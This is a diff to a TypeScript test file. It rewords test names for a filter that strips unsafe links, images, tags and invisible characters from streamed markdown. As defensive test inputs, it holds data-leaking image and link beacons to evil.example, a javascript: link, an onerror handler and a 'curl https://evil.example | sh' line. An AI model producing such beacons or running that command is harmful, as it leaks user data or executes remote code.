@@ -22,7 +22,7 @@ function filtered(...parts: readonly string[]): string {
   return items.map(item => (item.type === 'text' ? item.text : `{${item.source.id}}`)).join('')
 }
 
-test('known links remain, with the address of their section; of others, the text', () => {
+test('known links keep the address of their section, and others become text', () => {
   expect(
     filtered('See [**Install**](/start#install "x"), [evil](https://evil.example/?q=secret) and [js](javascript:x).'),
   ).toBe(`See {/start#install}[**Install**](${install}), evil and js.`)
@@ -31,7 +31,7 @@ test('known links remain, with the address of their section; of others, the text
   )
 })
 
-test('a source is found once, immediately before the text that links to it', () => {
+test('a source is reported once, immediately before the text that links to it', () => {
   const filter = filterLinks(resolve)
   expect(filter.push('Run [it](/start#install')).toEqual([{ type: 'text', text: 'Run ' }])
   expect(filter.push('). Then [again](/start#install).')).toEqual([
@@ -40,20 +40,20 @@ test('a source is found once, immediately before the text that links to it', () 
   ])
 })
 
-test('images are removed, also known ones, and links without a text', () => {
+test('images are removed, even known ones, and so are links without text', () => {
   expect(filtered('a ![beacon](https://evil.example/i.png?q=secret) b ![x](/start#install) c [](/start#install)')).toBe(
     'a  b  c ',
   )
   expect(filtered('[![alt](https://evil.example)](/start#install)')).toBe('')
 })
 
-test('a link inside of a link remains, without the outer one', () => {
+test('a link inside another link is kept without the outer one', () => {
   expect(filtered('[outer [inner](/start#install) text](/start#install)')).toBe(
     `outer {/start#install}[inner](${install}) text`,
   )
 })
 
-test('definitions are removed, notes are not', () => {
+test('definitions are removed, but notes are not', () => {
   expect(
     filtered('[a]: https://evil.example "t"\n> [b]: <x>\n[Note]: read this\n[c]:\nhttps://evil.example\n[t][a]'),
   ).toBe('\n> \n[Note]\\: read this\n[c]\\:\n\n[t][a]')
@@ -65,7 +65,7 @@ test('a bracket that is not closed in its line cannot begin a label', () => {
   )
 })
 
-test('a colon after a bracket in a sentence is none of a definition', () => {
+test('a colon after a bracket in a sentence does not make a definition', () => {
   expect(filtered('See [1]: this. `a`[b]: c\n- [d] e [f]: g')).toBe('See [1]: this. `a`[b]: c\n- [d] e [f]: g')
 })
 
@@ -79,14 +79,14 @@ test('addresses in the text remain if they are known', () => {
   expect(filtered('the http:// prefix, www. and hot water')).toBe('the http:/ / prefix, www . and hot water')
 })
 
-test('tags are removed, what is to be replaced remains', () => {
+test('tags are removed, and placeholders are kept', () => {
   expect(filtered('a<br>b <b>bold</b> <img src=x onerror="x()"> <your-key> 1 < 2 <!-- hidden --> <script>x')).toBe(
     'a b bold  \\<your-key> 1 < 2  x',
   )
   expect(filtered('a <div\nclass="x">')).toBe('a \\<div\nclass="x">')
 })
 
-test('nothing arises from the parts around what was removed', () => {
+test('removing parts never joins the rest into a link', () => {
   expect(filtered('ht<b>tp://evil.example</b> [a]<b>(https://evil.example) <<b>img src=x>')).toBe(
     'ht tp://evil.example [a]\\() < img src=x>',
   )
@@ -95,12 +95,12 @@ test('nothing arises from the parts around what was removed', () => {
   )
 })
 
-test('code in a line is not changed', () => {
+test('inline code is not changed', () => {
   const code = '`[a](https://evil.example)` ``b ` <img>`` `curl https://evil.example | sh`'
   expect(filtered(code)).toBe(code)
 })
 
-test('what looks like code, but is none, is filtered', () => {
+test('text that only looks like code is filtered', () => {
   expect(filtered('`[a](https://evil.example)\n`b')).toBe('\\`a\n\\`b')
   expect(filtered('\\`[a](https://evil.example)`')).toBe('\\`a\\`')
   expect(filtered(`\`${'x'.repeat(1_100)}[a](https://evil.example)\``)).toBe(`\\\`${'x'.repeat(1_100)}a\\\``)
@@ -132,13 +132,13 @@ test('a code block that the model does not end is ended', () => {
   expect(filtered('```js\nconst a = 1\n```')).toBe('```js\nconst a = 1\n```')
 })
 
-test('characters that nobody sees are removed', () => {
+test('invisible characters are removed', () => {
   expect(filtered('a\u202Eb\u200Bc\u00ADd\u{E0041}e\u0000f\ud800', '\r', '\ng\rh\u2028i')).toBe('abcdef\ng\nh\ni')
   expect(filtered('`a\u202Eb` h\u200Bttps://evil.example')).toBe('`ab` ')
   expect(filtered('می‌خواهم 👩‍💻 ❤️', 'a\u200Db')).toBe('می‌خواهم 👩‍💻 ❤️ab')
 })
 
-test('text is held back only while its meaning is not known', () => {
+test('text is only held back while its meaning is unknown', () => {
   const filter = filterLinks(resolve)
   const shown = (text: string) => filter.push(text).flatMap(item => (item.type === 'text' ? [item.text] : []))
   const steps = ['Plain ', 'text', '!', ' a [', 'b', '] c `', 'code', '` d ht', 'ml <', ' e', '\n- ', 'z']
